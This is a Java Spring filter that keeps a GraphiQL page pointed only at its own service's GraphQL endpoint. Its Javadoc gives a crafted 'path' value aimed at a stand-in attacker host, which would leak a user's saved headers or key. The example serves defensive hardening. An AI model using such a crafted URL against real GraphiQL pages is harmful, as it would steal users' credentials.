package org.kvali.graphql;

import java.io.IOException;

import jakarta.servlet.FilterChain;
import jakarta.servlet.ServletException;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;

import org.springframework.beans.factory.annotation.Value;
import org.springframework.stereotype.Component;
import org.springframework.web.filter.OncePerRequestFilter;
import org.springframework.web.util.UrlPathHelper;

/**
 * GraphiQL's page asks the endpoint its {@code path} parameter names, written after the page's own host, and sends it
 * the headers a user saved in its editor: {@code /graphiql?path=.attacker.example/graphql} would have sent a key to
 * another host (a tester's, from the page's code). The page is served for this service's endpoint alone: any other
 * {@code path}, and a {@code wsPath} (there is no WebSocket endpoint), is sent back to it.
 */
@Component
class GraphiQlPath extends OncePerRequestFilter {

	private final String endpoint;

	GraphiQlPath(@Value("${spring.graphql.http.path:/graphql}") String endpoint) {
		this.endpoint = endpoint;
	}

	/** The path as the router reads it, decoded: {@code /graph%69ql} is served the page too (a reviewer's). */
	@Override
	protected boolean shouldNotFilter(HttpServletRequest request) {
		return !"/graphiql".equals(UrlPathHelper.defaultInstance.getPathWithinApplication(request));
	}

	@Override
	protected void doFilterInternal(HttpServletRequest request, HttpServletResponse response, FilterChain chain)
			throws ServletException, IOException {
		// the page's own redirect gives the endpoint with the application's context path
		var endpoint = request.getContextPath() + this.endpoint;
		var path = request.getParameter("path");
		if (path != null && !path.equals(endpoint) || request.getParameter("wsPath") != null) {
			response.setStatus(HttpServletResponse.SC_TEMPORARY_REDIRECT);
			response.setHeader("Location", request.getContextPath() + "/graphiql?path=" + endpoint);
			return;
		}
		chain.doFilter(request, response);
	}

}
